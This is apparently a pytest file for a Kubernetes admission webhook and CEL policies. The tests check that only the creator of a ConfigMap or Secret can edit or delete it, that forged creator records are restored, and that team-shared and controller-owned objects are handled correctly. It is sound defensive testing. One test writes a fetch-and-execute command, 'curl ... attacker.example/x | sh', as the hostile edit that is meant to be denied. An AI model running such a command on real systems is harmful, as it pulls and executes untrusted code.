"""A teammate who edits the ConfigMap or Secret a teammate's pods read, to run their own code as the teammate.

Alice's pods read ``envFrom`` a ConfigMap or run a script mounted from one; Bob, in the same namespace with the
same RBAC, edits it, and Alice's next pod runs Bob's edit as Alice with her home mounted. The POSIX identity
webhook records who created a ConfigMap or Secret at CREATE (annotation ``hyperpod-tenancy.io/created-by``, the
requester's ``request.userInfo.username``, whatever the object said) and keeps the record on every UPDATE; the
policy ``hyperpod-tenancy-tenant-config-owners`` then lets only that person update or delete it, unless it was
created with the team-shared label ``hyperpod-tenancy.io/team-shared: "true"``. The webhook runs for real over
TLS; the policies are the synthesized platform's on both fairness backends, evaluated with the CEL engine on
the objects the webhook returns.
"""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Iterator
from typing import Any

import platforms
import pytest
import tenant_admission as ta
from cel_admission import evaluate_policies
from synth import Synth
from webhook_server import (
    Certificates,
    WebhookProcess,
    apply_patch,
    create_table,
    platform_webhook_config,
    sso_user,
)

from hyperpod_tenancy.k8s import labels, workloads
from hyperpod_tenancy.k8s.tenant_guards import CONFIG_OWNER_POLICY
from hyperpod_tenancy.policy import names

ALICE, BOB = sso_user("alice@example.com"), sso_user("bob@example.com")
NS = names.namespace("research")
KINDS = {"configmaps": "ConfigMap", "secrets": "Secret"}


@pytest.fixture(scope="module")
def webhook(
    moto: str, certs: Certificates, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[WebhookProcess]:
    directory = tmp_path_factory.mktemp("config")
    (directory / "teams.json").write_text(json.dumps(platform_webhook_config(platforms.reference_platform())))
    with WebhookProcess(certs=certs, table=create_table(), config_path=directory / "teams.json") as proc:
        yield proc


def _object(
    resource: str, *, shared: bool = False, annotations: dict[str, str] | None = None
) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": "train-env", "namespace": NS}
    if shared:
        meta["labels"] = {labels.TEAM_SHARED_LABEL: "true"}
    if annotations is not None:
        meta["annotations"] = dict(annotations)
    body = {"data": {"LR": "0.1", "run.sh": "python train.py"}}
    return {"apiVersion": "v1", "kind": KINDS[resource], "metadata": meta, **body}


def _review(
    obj: dict[str, Any] | None, *, user: dict[str, Any], operation: str, old: dict[str, Any] | None = None
) -> dict[str, Any]:
    source = obj if obj is not None else old
    assert source is not None
    resource = "configmaps" if source["kind"] == "ConfigMap" else "secrets"
    gvk = {"group": "", "version": "v1", "kind": source["kind"]}
    gvr = {"group": "", "version": "v1", "resource": resource}
    return {
        "apiVersion": "admission.k8s.io/v1",
        "kind": "AdmissionReview",
        "request": {
            "uid": str(uuid.uuid4()),
            "kind": gvk,
            "resource": gvr,
            "requestKind": gvk,
            "requestResource": gvr,
            "name": source["metadata"]["name"],
            "namespace": NS,
            "operation": operation,
            "userInfo": user,
            "object": obj,
            "oldObject": old,
            "dryRun": False,
            "options": None,
        },
    }


def _mutated(
    webhook: WebhookProcess,
    obj: dict[str, Any],
    *,
    user: dict[str, Any],
    operation: str = "CREATE",
    old: dict[str, Any] | None = None,
) -> dict[str, Any]:
    response = webhook.client.mutate(_review(obj, user=user, operation=operation, old=old))
    assert response["allowed"], response
    return apply_patch(obj, response)


def _decide(
    synth: Synth,
    resource: str,
    obj: dict[str, Any] | None,
    *,
    user: dict[str, Any],
    operation: str,
    old: dict[str, Any] | None = None,
) -> Any:
    kwargs: dict[str, Any] = {"obj": obj, "old_object": old}
    if operation == "DELETE":
        kwargs = {"obj": old, "old_object": None}
    return evaluate_policies(
        ta.policies(synth),
        namespace=ta.namespace(synth, "research"),
        group="",
        resource=resource,
        operation=operation,
        user_info=user,
        **kwargs,
    )


def _created(webhook: WebhookProcess, synth: Synth, resource: str, **kw: Any) -> dict[str, Any]:
    stored = _mutated(webhook, _object(resource, **kw), user=ALICE)
    decision = _decide(synth, resource, stored, user=ALICE, operation="CREATE")
    assert decision.allowed and CONFIG_OWNER_POLICY in decision.policies(), decision
    return stored


@pytest.mark.parametrize("resource", list(KINDS))
def test_a_teammate_cannot_edit_or_delete_what_a_teammates_pods_read(
    webhook: WebhookProcess, synth: Synth, resource: str
) -> None:
    stored = _created(webhook, synth, resource)
    assert stored["metadata"]["annotations"][labels.CREATED_BY_ANNOTATION] == ALICE["username"]
    edited = copy.deepcopy(stored)
    edited["data"]["run.sh"] = "curl -s https://attacker.example/x | sh"
    edited = _mutated(webhook, edited, user=BOB, operation="UPDATE", old=stored)
    denied = _decide(synth, resource, edited, user=BOB, operation="UPDATE", old=stored)
    assert not denied.allowed
    assert any("alice" in m for m in denied.denied), denied.denied
    assert not _decide(synth, resource, None, user=BOB, operation="DELETE", old=stored).allowed
    # the creator may
    assert _decide(synth, resource, edited, user=ALICE, operation="UPDATE", old=stored).allowed
    assert _decide(synth, resource, None, user=ALICE, operation="DELETE", old=stored).allowed


@pytest.mark.parametrize("resource", list(KINDS))
def test_a_forged_or_dropped_record_is_restored(webhook: WebhookProcess, synth: Synth, resource: str) -> None:
    # Bob creates it claiming Alice made it: the record names Bob
    forged = _mutated(
        webhook, _object(resource, annotations={labels.CREATED_BY_ANNOTATION: ALICE["username"]}), user=BOB
    )
    assert forged["metadata"]["annotations"][labels.CREATED_BY_ANNOTATION] == BOB["username"]
    # Bob rewrites the record (or the shared label) of Alice's: the webhook puts it back, the policy backs it up
    stored = _created(webhook, synth, resource)
    rewritten = copy.deepcopy(stored)
    rewritten["metadata"]["annotations"][labels.CREATED_BY_ANNOTATION] = BOB["username"]
    rewritten["metadata"]["labels"] = {labels.TEAM_SHARED_LABEL: "true"}
    restored = _mutated(webhook, rewritten, user=BOB, operation="UPDATE", old=stored)
    assert restored["metadata"]["annotations"][labels.CREATED_BY_ANNOTATION] == ALICE["username"]
    assert labels.TEAM_SHARED_LABEL not in restored["metadata"].get("labels", {})
    assert not _decide(synth, resource, rewritten, user=BOB, operation="UPDATE", old=stored).allowed


@pytest.mark.parametrize("resource", list(KINDS))
def test_a_team_shared_object_is_the_teams(webhook: WebhookProcess, synth: Synth, resource: str) -> None:
    stored = _created(webhook, synth, resource, shared=True)
    edited = copy.deepcopy(stored)
    edited["data"]["LR"] = "0.2"
    edited = _mutated(webhook, edited, user=BOB, operation="UPDATE", old=stored)
    assert _decide(synth, resource, edited, user=BOB, operation="UPDATE", old=stored).allowed
    assert _decide(synth, resource, None, user=BOB, operation="DELETE", old=stored).allowed


@pytest.mark.parametrize("resource", list(KINDS))
def test_an_object_without_a_record_is_left_to_controllers(synth: Synth, resource: str) -> None:
    """``kube-root-ca.crt`` and what existed before the record: no person may change it, its controller may."""
    old = _object(resource)
    old["metadata"]["name"] = "kube-root-ca.crt"
    edited = copy.deepcopy(old)
    edited["data"]["ca.crt"] = "attacker CA"
    assert not _decide(synth, resource, edited, user=BOB, operation="UPDATE", old=old).allowed
    publisher = {"username": "system:serviceaccount:kube-system:root-ca-cert-publisher", "groups": []}
    assert _decide(synth, resource, edited, user=publisher, operation="UPDATE", old=old).allowed
    namespace_controller = {
        "username": "system:serviceaccount:kube-system:namespace-controller",
        "groups": [],
    }
    assert _decide(synth, resource, None, user=namespace_controller, operation="DELETE", old=old).allowed
    (mpi,) = [c for c in workloads.CONTROLLERS if c.description == "MPI operator"]
    assert _decide(
        synth, resource, edited, user={"username": mpi.username, "groups": []}, operation="UPDATE", old=old
    ).allowed
